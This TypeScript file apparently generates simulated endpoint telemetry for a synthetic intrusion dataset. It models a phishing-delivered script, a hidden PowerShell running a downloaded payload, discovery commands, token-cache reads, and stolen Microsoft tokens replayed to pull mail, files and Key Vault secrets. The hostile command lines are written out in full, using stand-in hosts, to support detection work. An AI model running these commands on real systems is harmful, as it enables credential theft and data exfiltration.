import { call, deleteFile, openFile, type Process, type Sensor, startProcess, writeFile } from './sensor.ts';
import { type Day, type Desk, hour, minute, run } from './workday.ts';

/** Whose computer is taken over. */
export const victimHost = 'CPH-OPS-01';

/** What the intruder did on the endpoint, as far as other sources or the ground truth need it. */
export interface EndpointIntrusion {
  readonly reads: readonly CacheRead[];
  /** In order of time. */
  readonly calls: readonly ReplayedCall[];
}

export interface CacheRead {
  /** Epoch milliseconds. */
  readonly at: number;
  /** The file, from the user's folder on. */
  readonly cache: string;
}

export interface ReplayedCall {
  /** Epoch milliseconds. */
  readonly at: number;
  readonly tool: Tool;
  readonly url: string;
}

type Tool = 'curl' | 'python' | 'powershell';

const graph = 'https://graph.microsoft.com/v1.0';
const system32 = 'C:\\Windows\\System32\\';

/**
 * The one intrusion of the day, on a cloud operator's workstation: a phished script, a look around, the token caches
 * read out, and the tokens replayed against Microsoft's endpoints for about an hour with three tools.
 */
export function intrude(desk: Desk, day: Day): EndpointIntrusion {
  const s = desk.sensor;
  const r = s.random;
  const user = desk.person.login;
  const temp = `C:\\Users\\${user}\\AppData\\Local\\Temp\\review`;
  const start = day.midnight + 15 * hour + 52 * minute + r.int(0, 40_000);

  // Delivery: a link in a mail, an archive, a script.
  const edge = run(
    desk,
    start,
    'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe',
    '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --single-argument https://docs-review.example/d/contoso-invoice-7731',
    { parent: 'explorer.exe', calls: ['docs-review.example'] },
  );
  writeFile(s, edge, start + 21_000, 'ZipFileWritten', `C:\\Users\\${user}\\Downloads\\contoso-invoice-7731.zip`);
  const script = run(
    desk,
    start + 96_000,
    `${system32}wscript.exe`,
    `"${system32}WScript.exe" "C:\\Users\\${user}\\Downloads\\contoso-invoice-7731\\open-me.js"`,
    { parent: 'explorer.exe', calls: ['cdn-docs-review.example'] },
  );
  const shell = startProcess(s, {
    at: start + 99_400,
    image: `${system32}WindowsPowerShell\\v1.0\\powershell.exe`,
    commandLine: 'powershell.exe -nop -w hidden -ep bypass -c "iex (Get-Content $env:TEMP\\review\\r.txt -Raw)"',
    person: desk.person,
    parent: script,
  });
  writeFile(s, shell, start + 103_000, 'NewScriptWritten', `${temp}\\r.ps1`);

  // A look around.
  let at = start + 14 * minute;
  for (const command of [
    'whoami /all',
    'net user /domain',
    'nltest /domain_trusts',
    'cmd /c dir /s /b %USERPROFILE%\\.azure',
    'cmd /c dir /b %LOCALAPPDATA%\\.IdentityService',
  ]) {
    at += r.int(20_000, 110_000);
    const [tool = ''] = command.split(' ');
    run(desk, at, `${system32}${tool}.exe`, command, { parent: shell });
  }

  // The token caches are opened again and again while they are decrypted and copied.
  at = start + 31 * minute;
  const caches = [
    ...Array<string>(7).fill('.azure\\msal_token_cache.bin'),
    ...Array<string>(5).fill('AppData\\Local\\.IdentityService\\msal.cache'),
    ...Array.from({ length: 3 }, () => `AppData\\Local\\Microsoft\\TokenBroker\\Cache\\${r.hex(40)}.tbres`),
  ];
  const reads = caches.map((cache): CacheRead => {
    at += r.int(4_000, 30_000);
    openFile(s, shell, at, `C:\\Users\\${user}\\${cache}`);
    return { at, cache };
  });
  writeFile(s, shell, at + 40_000, 'ZipFileWritten', `${temp}\\python-3.11.9-embed-amd64.zip`);
  writeFile(s, shell, at + 52_000, 'PeFileWritten', `${temp}\\py\\python.exe`);

  const calls = replay(s, shell, desk, temp, start + 41 * minute);
  deleteFile(s, shell, start + 99 * minute, `${temp}\\r.ps1`);
  return { reads, calls };
}

/** Refreshes, then mail, people, files and vault secrets: 39 calls by curl, 22 by Python, 15 by PowerShell. */
function replay(s: Sensor, shell: Process, desk: Desk, temp: string, from: number): readonly ReplayedCall[] {
  const r = s.random;
  const calls: Omit<ReplayedCall, 'at'>[] = [];
  const add = (count: number, tool: Tool, url: (i: number) => string): void => {
    for (let i = 0; i < count; i++) calls.push({ tool, url: url(i) });
  };
  add(4, 'curl', () => `https://login.microsoftonline.com/${s.fleet.tenant}/oauth2/v2.0/token`);
  add(1, 'curl', () => `${graph}/me`);
  add(6, 'curl', (i) => `${graph}/users?$top=999&$skiptoken=${i}`);
  add(18, 'curl', (i) => `${graph}/me/messages?$top=50&$skip=${i * 50}`);
  add(22, 'python', (i) => `${graph}/me/messages/${(0x3f000 + i * 977).toString(16)}/attachments`);
  add(6, 'curl', (i) => `https://contoso.sharepoint.com/sites/finance/_api/web/lists/items?$skip=${i * 100}`);
  add(15, 'powershell', (i) => `${graph}/me/drive/root/children?$skip=${i * 200}`);
  add(
    4,
    'curl',
    (i) =>
      `https://kv-contoso.vault.azure.net/secrets/${['', 'sql-admin', 'deploy-key', 'signing-cert'][i]}?api-version=7.4`,
  );

  const pace = Math.floor((55 * minute) / calls.length);
  return calls.map(({ tool, url }, i) => {
    const at = from + i * pace + r.int(0, pace - 2_000);
    const process = startProcess(s, { at, person: desk.person, parent: shell, ...toolCall(tool, url, i, temp) });
    call(s, process, at + r.int(20, 300), new URL(url).hostname);
    return { at, tool, url };
  });
}

function toolCall(tool: Tool, url: string, i: number, temp: string): { image: string; commandLine: string } {
  if (tool === 'python') {
    const image = `${temp}\\py\\python.exe`;
    return {
      image,
      commandLine: `${image} -c "import os,requests;open('${i}.bin','wb').write(requests.get('${url}',headers={'Authorization':'Bearer '+os.environ['GT']}).content)"`,
    };
  }
  if (tool === 'powershell') {
    const image = `${system32}WindowsPowerShell\\v1.0\\powershell.exe`;
    return {
      image,
      commandLine: `powershell.exe -nop -w hidden -c "Invoke-RestMethod -Headers @{Authorization='Bearer '+$env:GT} -Uri '${url}' -OutFile ${i}.json"`,
    };
  }
  const image = `${system32}curl.exe`;
  if (url.endsWith('/token'))
    return {
      image,
      commandLine: `curl.exe -s -X POST ${url} -d "client_id=d3590ed6-52b3-4102-aeff-aad2292ab01c&grant_type=refresh_token&refresh_token=%RT%" -o t${i}.json`,
    };
  return { image, commandLine: `curl.exe -s -H "Authorization: Bearer %GT%" "${url}" -o ${i}.json` };
}
